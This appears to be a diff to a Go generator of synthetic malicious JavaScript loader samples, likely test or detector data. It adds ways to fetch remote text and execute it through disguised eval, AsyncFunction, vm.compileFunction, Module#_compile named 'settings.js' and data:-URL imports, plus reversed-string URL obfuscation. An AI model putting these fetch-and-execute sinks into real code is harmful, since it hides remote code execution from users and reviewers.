@@ -75,6 +75,10 @@ func (g *gen) fetchThen(urlExpr string, esm bool, arg, body string) string {
 	case 3:
 		return fmt.Sprintf("require('request')(%s, (err, res, %s) => {\n  if (!err && res.statusCode === 200) {\n    %s\n  }\n});", urlExpr, arg, body)
 	}
+	if g.rng.IntN(3) == 0 {
+		// axios called with a config object, as some loaders do.
+		return fmt.Sprintf("require('axios')({ method: 'get', url: %s, responseType: 'text' })\n  .then(({ data: %s }) => {\n    %s\n  })\n  .catch(() => console.log(%q));", urlExpr, arg, body, log)
+	}
 	return fmt.Sprintf("require('axios')\n  .get(%s)\n  .then((res) => {\n    const %s = res.data;\n    %s\n  })\n  .catch(() => console.log(%q));", urlExpr, arg, body, log)
 }
 
@@ -97,12 +101,19 @@ func (g *gen) sink(t Technique, v string) string {
 			"[]['constructor']['constructor']('require', " + v + ")(require);",
 		})
 	case FunctionRequire:
-		return "new Function('require', " + v + ")(require);"
+		return g.pick([]string{
+			"new Function('require', " + v + ")(require);",
+			// The AsyncFunction constructor, reached without naming it.
+			"Object.getPrototypeOf(async function () {}).constructor('require', " + v + ")(require);",
+		})
 	case RemoteVM:
 		return g.pick([]string{
 			"require('vm').runInThisContext(" + v + ");",
 			"new (require('vm').Script)(" + v + ").runInThisContext();",
 			"require('vm').runInNewContext(" + v + ", { require, process, Buffer });",
+			"require('vm').compileFunction(" + v + ", ['require'])(require);",
+			// Compile as a module through Module#_compile.
+			"const m = new (require('module'))();\n    m._compile(" + v + ", 'settings.js');",
 		})
 	case RemoteChildProcess:
 		return g.pick([]string{
@@ -118,6 +129,8 @@ func (g *gen) sink(t Technique, v string) string {
 		"(0, eval)(" + v + ");",
 		"const run = eval;\n    run(" + v + ");",
 		"globalThis['ev' + 'al'](" + v + ");",
+		// Import the text as a module from a data: URL.
+		"import('data:text/javascript,' + encodeURIComponent(" + v + "));",
 	})
 }
 
@@ -174,7 +187,14 @@ func (g *gen) payload(t Technique, esm bool) string {
 
 // encodedURL hides u in a literal the way the loaders do.
 func (g *gen) encodedURL(u string, esm bool) string {
-	switch g.rng.IntN(6) {
+	switch g.rng.IntN(7) {
+	case 6:
+		g.variant = "reversed"
+		r := []byte(u)
+		for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
+			r[i], r[j] = r[j], r[i]
+		}
+		return fmt.Sprintf("%q.split('').reverse().join('')", string(r))
 	case 0:
 		g.variant = "base64"
 		b := base64.StdEncoding.EncodeToString([]byte(u))
